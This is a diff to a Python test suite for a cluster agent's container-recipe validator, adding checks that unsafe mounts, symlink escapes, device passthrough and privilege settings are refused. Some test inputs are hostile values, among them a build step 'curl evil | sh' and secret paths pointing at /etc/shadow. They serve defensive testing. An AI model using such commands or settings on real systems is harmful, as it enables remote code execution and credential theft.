@@ -100,6 +100,17 @@ def image(ref: str) -> Change:
     return lambda one: one["recipe"]["image"].update(ref=ref)
 
 
+def lay_out_folders(tree: Tree) -> None:
+    tree.file("/node1/proc/self/mounts", "/dev/x / ext4 rw 0 0\nfiles:/x /opt/read/share nfs4 rw 0 0\n")
+    tree.folder("/node1/opt/read/share/x")
+    tree.folder("/node1/srv/data/out")
+    tree.folder("/node1/srv/models/users/tiny")
+    tree.folder("/node1/srv/models/users").chmod(0o777)
+    tree.link("/node1/srv/models/to-users", "/srv/models/users/back")
+    tree.link("/node1/srv/models/users/back", "/srv/models/users")
+    tree.link("/node1/srv/models/to-data", "/srv/data/out")
+
+
 def section(name: str, **keys: object) -> Change:
     return lambda one: one.setdefault(name, {}).update(keys)
 
@@ -136,6 +147,12 @@ BEYOND = "cluster.allow.mounts permits"
         (mount("/srv/data/link/etc:/x:rw"), BEYOND),
         (mount("/srv/data/inner/etc:/x:ro"), BEYOND),
         (mount("/srv/data/loop:/x:rw"), BEYOND),
+        (mount("/dev/infiniband:/x:rw"), BEYOND),
+        (mount("/srv/data/out:/x:rw"), "so nothing in it is permitted, only /srv/data itself"),
+        (mount("/srv/models/to-data:/x:ro"), "containers may write to /srv/data"),
+        (mount("/srv/models/users/tiny:/x:ro"), "others than root may change what is in /srv/models/users, and"),
+        (mount("/srv/models/to-users:/x:ro"), "others than root may change what is in /srv/models/users, and"),
+        (mount("/opt/read/share/x:/x:ro"), "others than root may change what is in /opt/read/share, and"),
         (mount("/srv/models/tiny:/run/sparkd-secrets/A:ro"), "does not accept it as Recipe"),
         (container(devices=["/dev/nvme0n1"]), BEYOND),
         (container(devices=["/dev/mem"]), BEYOND),
@@ -168,6 +185,7 @@ BEYOND = "cluster.allow.mounts permits"
 def test_what_allow_does_not_permit_is_refused_and_not_kept(
     pair: Pair, tree: Tree, port: int, attack: Change, said: str
 ) -> None:
+    lay_out_folders(tree)
     tree.link("/node1/srv/models/link", "/etc")
     tree.link("/node1/srv/data/link", "/")
     tree.link("/node1/srv/data/inner", "/")
@@ -186,6 +204,22 @@ def test_what_allow_does_not_permit_is_refused_and_not_kept(
         membership.resolve_context(pair.worker.agent.context.configured, None, pair.worker.agent.host)
 
 
+def test_what_no_one_but_root_can_exchange_until_docker_mounts_it_is_permitted(
+    pair: Pair, tree: Tree, port: int
+) -> None:
+    lay_out_folders(tree)
+    volumes = ["/srv/data:/a:rw", "/srv/data:/b:ro", "/opt/read:/c:ro", "/opt/read/x:/d:ro", "/srv/models/tiny:/e:ro"]
+    document = good(port)
+    container(volumes=volumes, devices=["/dev/infiniband", "/dev/infiniband/uverbs0"])(document)
+    keep(tree, body(document))
+    own, host = pair.worker.agent.context.configured, pair.worker.agent.host
+    spec = membership.resolve_context(own, None, host).plan.container
+    assert [f"{one.source}:{one.target}" for one in spec.volumes[1:]] == [one[:-3] for one in volumes]
+    (tree.root / "node1/proc/self/mounts").unlink()
+    with pytest.raises(HeadAwaitedError, match="may change what is in /opt/read/x, as far as is known"):
+        membership.resolve_context(own, None, host)
+
+
 @pytest.mark.parametrize("sent", [b"{", b"[" * 100_000, b"null", b"\xff\xfe", b'{"schema": 1}'])
 def test_what_is_no_document_is_refused(pair: Pair, sent: bytes) -> None:
     with pytest.raises(BlockedError, match="can't be read"):
@@ -197,6 +231,7 @@ IGNORED: tuple[Change, ...] = (
     section("cluster", key_file="/etc/shadow", report_port=1, follow_head=False,
             allow={"images": ["evil"], "mounts": ["/etc:rw"], "privileged": True}),
     lambda one: one["recipe"].update(secrets={"X": "/etc/shadow"}, host={"sysctls": {"vm.overcommit_memory": 2}}),
+    container(no_new_privileges=False),
     lambda one: one["recipe"]["image"].update(build="curl evil | sh"),
     lambda one: one.update(image_id="sha256:" + "a" * 64),
     lambda one: one.update(memory={"floor_mib": 0}, observe={"listen": "0.0.0.0:1"}),
@@ -225,6 +260,16 @@ def test_a_good_document_is_kept_and_the_agent_starts_again_with_it(pair: Pair, 
     keep(tree, body(document))
     after = membership.resolve_context(pair.worker.agent.context.configured, None, pair.worker.agent.host)
     assert ("A", "b") in after.plan.env
+
+
+def test_what_a_heads_plan_compiles_is_never_loaded_by_the_nodes_own(pair: Pair, tree: Tree, port: int) -> None:
+    document = good(port)
+    document["recipe"]["caches"]["vllm"] = "/root/.cache/vllm"
+    keep(tree, body(document))
+    after = membership.resolve_context(pair.worker.agent.context.configured, None, pair.worker.agent.host)
+    assert [one.name for one in after.plan.caches] == ["_head/vllm"]
+    assert membership.plan_to_launch(after, 7).caches == after.plan.caches
+    assert dict(after.plan.shared)["caches.vllm"] == "/root/.cache/vllm", "all ranks have one digest"
 
 
 def test_a_node_without_the_key_changes_nothing(tree: Tree, port: int) -> None:
@@ -266,8 +311,8 @@ def test_every_option_of_a_container_is_judged_or_stays_in_it() -> None:
     """A new one needs a decision in base.plan.allowed."""
     from sparkd.base.recipes.schema import Container
 
-    judged = {"privileged", "ulimits", "devices", "volumes"}
-    inside = {"gpus", "ipc", "network", "no_new_privileges", "init", "shm_bytes", "memory_limit_bytes"}
+    judged = {"privileged", "no_new_privileges", "ulimits", "devices", "volumes"}
+    inside = {"gpus", "ipc", "network", "init", "shm_bytes", "memory_limit_bytes"}
     assert set(Container.model_fields) == judged | inside
     assert Container.model_fields["network"].annotation.__args__ == ("host",)  # type: ignore[union-attr]
 
